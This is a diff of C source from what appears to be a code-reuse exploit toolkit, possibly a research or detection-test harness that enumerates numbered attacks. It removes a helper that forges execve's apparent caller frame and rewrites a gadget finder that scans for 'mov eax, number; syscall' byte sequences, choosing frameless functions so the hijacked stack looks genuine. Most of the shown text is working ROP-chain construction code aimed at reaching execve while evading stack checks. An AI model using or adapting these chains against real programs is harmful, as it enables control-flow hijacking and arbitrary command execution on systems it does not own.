@@ -1,14 +1,6 @@
 // Chains that reuse code: attacks 1 to 3, 5 to 7, 12 to 15 of the list, and a few that leave a tidier stack than these.
 #include "hijack.h"
 
-static word execve_entry(void) { return need(symbol("execve"), "execve"); }
-
-// The word that vulnerable()'s `ret` takes lies so that execve's caller seems to be work(), whose frame is genuine.
-static void below_work(word last_hop) {
-  end_at(joint);
-  add(last_hop);
-}
-
 // MARK: Plain chains
 
 static void pop_ret(void) {
@@ -37,10 +29,13 @@ static void raw_syscall(void) {
 }
 
 // The syscall instruction of a function that has it for another call: mov eax, number; syscall.
+// One without a frame of its own, so that the stack above is the same.
 static word borrowed(void) {
-  word at = find("b8 ?? ?? 00 00 0f 05");
-  while (at && *(const uint32_t *)(at + 1) == SYS_execve) at = find_after("b8 ?? ?? 00 00 0f 05", at);
-  return need(at, "mov number, %eax; syscall") + 5;
+  for (word at = 0; (at = find_after("b8 ?? ?? 00 00 0f 05", at)) != 0;) {
+    long size = frame_size(at + 7);
+    if (*(const uint32_t *)(at + 1) != SYS_execve && (size == 8 || size == -1)) return at + 5;
+  }
+  impossible("no mov number, %%eax; syscall");
 }
 
 static void borrowed_syscall(void) {
